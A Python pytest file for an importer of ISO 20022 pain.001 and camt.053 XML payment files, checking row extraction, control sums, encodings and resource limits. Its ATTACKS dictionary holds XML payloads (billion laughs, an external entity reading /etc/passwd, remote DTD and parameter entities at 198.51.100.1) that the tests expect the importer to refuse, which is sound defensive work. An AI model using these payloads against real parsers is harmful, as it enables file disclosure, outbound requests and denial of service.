"""XML files: the rows of two messages of ISO 20022, and documents that attack the reader."""

import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from io import BytesIO, RawIOBase
from typing import Any, Final

import pytest

from bounded_context import Amount, Currency, Day, Text
from bounded_context.application.checking import ListFile
from bounded_context.application.list_import import Outcome
from bounded_context.domain.faults import ListFault
from bounded_context.domain.formats import MOST_BYTES, FileFormat, Formats
from bounded_context.domain.lists import ListStatus
from bounded_context.domain.rows import Unreadable
from bounded_context.testing import InMemorySeenIds, Samples
from bounded_context_infra.configuration.formats import file_format
from bounded_context_infra.configuration.schema import BadMember
from tests.application.world import World
from tests.things import context_of

CREDITS: Final = context_of(
    {"amount": (Amount, ...), "currency": (Currency, ...), "day": (Day, ...), "creditor": (Text, ...)}
)
PAIN: Final = FileFormat(
    kind="xml",
    record="Document/CstmrCdtTrfInitn/PmtInf/CdtTrfTxInf",
    columns={
        "thing_id": "PmtId/EndToEndId",
        "amount": "Amt/InstdAmt",
        "currency": "Amt/InstdAmt/@Ccy",
        "day": "../ReqdExctnDt/Dt",
        "creditor": "Cdtr/Nm",
    },
    control={
        "count": "Document/CstmrCdtTrfInitn/GrpHdr/NbOfTxs",
        "sum": "Document/CstmrCdtTrfInitn/GrpHdr/CtrlSum",
        "of": "amount",
    },
)
PAIN_FILE: Final = """<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09">
  <CstmrCdtTrfInitn>
    <GrpHdr>
      <MsgId>MSG-1</MsgId><CreDtTm>2026-01-30T12:00:00Z</CreDtTm>
      <NbOfTxs>3</NbOfTxs><CtrlSum>60.75</CtrlSum>
    </GrpHdr>
    <PmtInf>
      <PmtInfId>P-1</PmtInfId><ReqdExctnDt><Dt>2026-01-31</Dt></ReqdExctnDt>
      <CdtTrfTxInf>
        <PmtId><InstrId>I-1</InstrId><EndToEndId>E-1</EndToEndId></PmtId>
        <Amt><InstdAmt Ccy="EUR">10.25</InstdAmt></Amt>
        <Cdtr><Nm>Müller &amp; Söhne</Nm></Cdtr>
        <RmtInf><Ustrd>Invoice 1</Ustrd><Ustrd>second line</Ustrd></RmtInf>
      </CdtTrfTxInf>
      <CdtTrfTxInf><PmtId><EndToEndId>E-2</EndToEndId></PmtId><Amt><InstdAmt Ccy="EUR">20.00</InstdAmt></Amt>
        <Cdtr><Nm><![CDATA[A <b>]]></Nm></Cdtr></CdtTrfTxInf>
    </PmtInf>
    <PmtInf>
      <PmtInfId>P-2</PmtInfId><ReqdExctnDt><Dt>2026-02-28</Dt></ReqdExctnDt>
      <CdtTrfTxInf>
        <PmtId><EndToEndId>E-3</EndToEndId></PmtId><Amt><InstdAmt Ccy="CHF">30.50</InstdAmt></Amt>
        <Cdtr><Nm>C</Nm></Cdtr>
      </CdtTrfTxInf>
    </PmtInf>
  </CstmrCdtTrfInitn>
</Document>
"""
CAMT: Final = FileFormat(
    kind="xml",
    record="Document/BkToCstmrStmt/Stmt/Ntry",
    columns={
        "thing_id": "AcctSvcrRef",
        "amount": "Amt",
        "currency": "Amt/@Ccy",
        "day": "BookgDt/Dt",
        "creditor": "../Acct/Id/IBAN",
    },
    control={
        "count": "Document/BkToCstmrStmt/Stmt/TxsSummry/TtlNtries/NbOfNtries",
        "sum": "Document/BkToCstmrStmt/Stmt/TxsSummry/TtlNtries/Sum",
        "of": "amount",
    },
)
CAMT_FILE: Final = """<c:Document xmlns:c="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><c:BkToCstmrStmt>
<c:GrpHdr><c:MsgId>M</c:MsgId></c:GrpHdr>
<c:Stmt><c:Id>S-1</c:Id><c:Acct><c:Id><c:IBAN>DE02120300000000202051</c:IBAN></c:Id></c:Acct>
<c:TxsSummry><c:TtlNtries><c:NbOfNtries>2</c:NbOfNtries><c:Sum>3.50</c:Sum></c:TtlNtries></c:TxsSummry>
<c:Ntry><c:Amt Ccy="EUR">1.00</c:Amt><c:BookgDt><c:Dt>2026-01-05</c:Dt></c:BookgDt>
<c:AcctSvcrRef>R-1</c:AcctSvcrRef></c:Ntry>
<c:Ntry><c:Amt Ccy="EUR">2.50</c:Amt><c:BookgDt><c:Dt>2026-01-06</c:Dt></c:BookgDt>
<c:AcctSvcrRef>R-2</c:AcctSvcrRef></c:Ntry>
</c:Stmt>
<c:Stmt><c:Id>S-2</c:Id><c:Acct><c:Id><c:IBAN>DE02500105170137075030</c:IBAN></c:Id></c:Acct>
<c:TxsSummry><c:TtlNtries><c:NbOfNtries>1</c:NbOfNtries><c:Sum>4.00</c:Sum></c:TtlNtries></c:TxsSummry>
<c:Ntry><c:Amt Ccy="EUR">4.00</c:Amt><c:BookgDt><c:Dt>2026-01-07</c:Dt></c:BookgDt>
<c:AcctSvcrRef>R-3</c:AcctSvcrRef></c:Ntry>
</c:Stmt></c:BkToCstmrStmt></c:Document>"""


def _read(text: str | bytes, format_: FileFormat = PAIN, most: int = MOST_BYTES) -> tuple[list[Any], list[Any]]:
    data = text.encode() if isinstance(text, str) else text
    checked = list(ListFile(BytesIO(data), CREDITS.rows, InMemorySeenIds(), format_, most).checked())
    return (
        [(row.line, *dict(row.details).values()) for part in checked for row in part.rows],
        [(each.line, each.field, each.code, each.reason) for part in checked for each in part.rejections],
    )


def _refused(text: str | bytes, format_: FileFormat = PAIN) -> Unreadable:
    with pytest.raises(Unreadable) as refused:
        _read(text, format_)
    return refused.value


def test_the_transfers_of_pain_001_are_rows():
    """The day is in the element around the transfers. `line` counts the rows."""
    good, rejected = _read(PAIN_FILE)
    assert rejected == []
    assert [(line, identity, str(amount), day.isoformat(), name) for line, identity, amount, _, day, name in good] == [
        (1, "E-1", "10.25", "2026-01-31", "Müller & Söhne"),
        (2, "E-2", "20.00", "2026-01-31", "A <b>"),
        (3, "E-3", "30.50", "2026-02-28", "C"),
    ]


def test_the_entries_of_camt_053_are_rows():
    """A file has several statements, each with its own count, sum and account."""
    good, _ = _read(CAMT_FILE, CAMT)
    assert [(row[0], row[1], row[2], row[-1][:4], row[-1][-4:]) for row in good] == [
        (1, "R-1", Decimal("1.00"), "DE02", "2051"),
        (2, "R-2", Decimal("2.50"), "DE02", "2051"),
        (3, "R-3", Decimal("4.00"), "DE02", "5030"),
    ]
    assert _refused(CAMT_FILE.replace("<c:Sum>4.00<", "<c:Sum>4.01<"), CAMT).fault is ListFault.CONTROL


@pytest.mark.parametrize("change", [("</PmtInf>\n    <PmtInf>", "</PmtInf><PmtInf>"), ("\n", ""), ("  ", "")])
def test_white_space_between_elements_has_no_meaning(change: tuple[str, str]):
    assert _read(PAIN_FILE.replace(*change)) == _read(PAIN_FILE)


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1", "windows-1252", "utf-8-sig"])
def test_the_file_names_its_encoding(encoding: str):
    text = PAIN_FILE.replace("UTF-8", encoding.replace("-sig", ""))
    assert _read(text.encode(encoding)) == _read(PAIN_FILE)


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        ("<NbOfTxs>3<", "<NbOfTxs>4<", "the file states 4 rows"),
        ("<NbOfTxs>3<", "<NbOfTxs><", "the file has no plain number as count of its rows"),
        ("<NbOfTxs>3</NbOfTxs>", "", "the file has no plain number as count of its rows"),
        ("<CtrlSum>60.75<", "<CtrlSum>60.57<", "the file states 60.57 as sum of amount"),
        ("<CtrlSum>60.75<", "<CtrlSum>60,75<", "the file has no plain number as sum of its rows"),
        (">20.00<", ">2O.00<", "the sum of amount cannot be checked: the row has no number"),
    ],
)
def test_a_wrong_count_or_sum_is_refused(old: str, new: str, reason: str):
    assert old in PAIN_FILE
    refusal = _refused(PAIN_FILE.replace(old, new, 1))
    assert (refusal.fault, refusal.reason[: len(reason)]) == (ListFault.CONTROL, reason)


def test_an_element_that_a_row_has_twice_rejects_the_row():
    own = "<EndToEndId>E-2</EndToEndId>"
    wrong = PAIN_FILE.replace(own, own * 2)
    format_ = replace(PAIN, control={"count": PAIN.control["count"]})
    good, rejected = _read(wrong, format_)
    assert [row[1] for row in good] == ["E-1", "E-3"]
    assert rejected == [(2, "", "cells", "the row has 'PmtId/EndToEndId' twice")]


def test_a_missing_element_is_an_empty_value_and_never_that_of_the_row_before():
    day = "<ReqdExctnDt><Dt>2026-02-28</Dt></ReqdExctnDt>"
    wrong = PAIN_FILE.replace("<Cdtr><Nm>C</Nm></Cdtr>", "").replace(day, "")
    assert {(line, field) for line, field, *_ in _read(wrong)[1]} == {(3, "creditor"), (3, "day")}


BOMB: Final = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ATTACKS: Final = {
    "billion laughs": (f'<!DOCTYPE Document [<!ENTITY l0 "lol">{BOMB}]>', "&l9;"),
    "external entity": ('<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "external document type": ('<!DOCTYPE Document SYSTEM "http://198.51.100.1/x.dtd">', "C"),
    "parameter entity": ('<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://198.51.100.1/x"> %p;]>', "C"),
    "empty document type": ("<!DOCTYPE Document>", "C"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_document_type_is_refused(attack: str):
    head, text = ATTACKS[attack]
    data = PAIN_FILE.replace("?>\n", f"?>\n{head}").replace("<Nm>C<", f"<Nm>{text}<")
    assert head in data
    assert _refused(data).fault is ListFault.STRUCTURE
    assert "DOCTYPE" in _refused(data).reason


@pytest.mark.parametrize(
    "data",
    [PAIN_FILE[:-20], PAIN_FILE.replace("<Nm>C<", "<Nm>&x;<"), PAIN_FILE + "<a/>", "thing_id\n1\n", "<a b=1/>", "\0\1"],
)
def test_a_file_that_is_not_well_formed_is_refused_with_its_place(data: str):
    refusal = _refused(data)
    assert refusal.fault is ListFault.STRUCTURE
    assert " at line " in refusal.reason


@pytest.mark.parametrize("encoding", ["shift_jis", "unknown", "rot13", "idna", "punycode", "undefined"])
def test_an_encoding_that_is_not_read_is_refused_with_the_remedy(encoding: str):
    refusal = _refused(PAIN_FILE.replace("UTF-8", encoding))
    assert refusal.fault is ListFault.STRUCTURE
    assert refusal.reason == "the file names an encoding that is not read: save it as UTF-8"


def test_a_document_without_rows_is_refused():
    assert _refused(CAMT_FILE).reason == f"the file has no element {PAIN.record}"


class _Endless(RawIOBase):
    """A file of a head, a repeated part and an end."""

    def __init__(self, head: bytes, part: bytes, times: int, end: bytes) -> None:
        self._parts = self._pieces(head, part, times, end)
        self._rest = b""

    @staticmethod
    def _pieces(head: bytes, part: bytes, times: int, end: bytes) -> Iterator[bytes]:
        yield head
        for _ in range(times):
            yield part
        yield end

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        while len(self._rest) < len(buffer) and (part := next(self._parts, b"")):
            self._rest += part
        data, self._rest = self._rest[: len(buffer)], self._rest[len(buffer) :]
        buffer[: len(data)] = data
        return len(data)


HEAD, _, END = (part.encode() for part in PAIN_FILE.partition("<PmtInf>"))


@pytest.mark.slow
@pytest.mark.parametrize(
    ("begin", "part", "fault"),
    [
        (b"", b"<!-- " + b"x" * 1000 + b" -->", ListFault.EMPTY),
        pytest.param(
            *(b"", b"<PmtInf><ReqdExctnDt><Dt>2026-01-31</Dt></ReqdExctnDt></PmtInf>", ListFault.EMPTY),
            marks=pytest.mark.nightly,
        ),
        (b"", b"x" * 1000, ListFault.EMPTY),
        (b"", b"<deep>", ListFault.RECORD),
        (b'<a b="', b"x" * 1000, ListFault.RECORD),
        (b"<!--", b"x" * 1000, ListFault.RECORD),
        (b"<PmtInf><CdtTrfTxInf><Cdtr><Nm>", b"x" * 1000, ListFault.RECORD),
        (b"", b"<GrpHdr><NbOfTxs>1</NbOfTxs></GrpHdr>", ListFault.CONTROL),
    ],
    ids=lambda value: str(value)[:30],
)
def test_an_endless_document_takes_little_memory(begin: bytes, part: bytes, fault: ListFault):
    tracemalloc.start()
    try:
        stream: Any = _Endless(HEAD + begin, part, 30_000_000 // len(part), b"</CstmrCdtTrfInitn></Document>")
        with pytest.raises(Unreadable) as refused:
            list(ListFile(stream, CREDITS.rows, InMemorySeenIds(), PAIN).checked())
        assert tracemalloc.get_traced_memory()[1] < 12_000_000
    finally:
        tracemalloc.stop()
    assert refused.value.fault is fault


def test_a_list_is_imported_and_a_refused_list_has_no_row():
    world = World(CREDITS)
    world.formats = Formats({"acme": PAIN}, MOST_BYTES)
    list_id = world.ready_to_import_file(PAIN_FILE.encode())
    world.import_parts(list_id)
    assert len(world.aggregates.stored) == 3
    world = World(CREDITS)
    world.formats = Formats({"acme": PAIN}, MOST_BYTES)
    list_id = world.register(PAIN_FILE.replace(">3<", ">4<").encode()).list_id
    assert world.validate(list_id).outcome is Outcome.REJECTED
    assert world.compensate(list_id) is ListStatus.REJECTED
    assert [line["code"] for line in world.report()] == ["list-control"]
    assert not world.aggregates.stored


@pytest.mark.parametrize("format_", [PAIN, CAMT])
def test_a_sample_in_the_format_is_a_list(format_: FileFormat):
    samples = Samples(CREDITS)
    data = samples.file([samples.values(n) for n in range(3)], format_=format_)
    good, rejected = _read(data, format_)
    assert (len(good), rejected) == (3, [])


SETTING: Final = PAIN.settings


def test_the_setting_is_a_format():
    assert file_format(SETTING, CREDITS.rows.columns) == PAIN


@pytest.mark.parametrize(
    ("change", "member"),
    [
        ({"record": None}, "record"),
        ({"record": "CdtTrfTxInf"}, "record"),
        ({"record": "/Document/a"}, "record"),
        ({"record": "p:Document/a"}, "record"),
        ({"record": "Document/a/@b"}, "record"),
        ({"columns": {"thing_id": "a//b"}}, "columns.thing_id"),
        ({"columns": {"thing_id": "p:a"}}, "columns.thing_id"),
        ({"columns": {"thing_id": "@a/b"}}, "columns.thing_id"),
        ({"columns": {"thing_id": "../../../../a"}}, "columns.thing_id"),
        ({"columns": {"thing_id": "../CdtTrfTxInf/a"}}, "columns.thing_id"),
        ({"control": {"count": "Document/CstmrCdtTrfInitn/PmtInf/CdtTrfTxInf/a"}}, "control.count"),
        ({"control": {"count": "last 2-9"}}, "control.count"),
        ({"control": {"count": "Documents/Count"}}, "control.count"),
        ({"control": {"count": "Document"}}, "control.count"),
        ({"control": {"count": "Document/CstmrCdtTrfInitn/PmtInf"}}, "control.count"),
        ({"control": {"count": "Document/Number", "sum": "Document/Number", "of": "amount"}}, "control.sum"),
        ({"control": {"first": "H"}}, "control.first"),
        ({"encoding": "latin-1"}, "encoding"),
        ({"decimal": "implied"}, "decimal"),
    ],
    ids=str,
)
def test_a_wrong_setting_is_refused_with_its_member(change: dict[str, Any], member: str):
    values = {name: value for name, value in {**SETTING, **change}.items() if value is not None}
    with pytest.raises(BadMember) as refused:
        file_format(values, CREDITS.rows.columns)
    assert refused.value.member == member
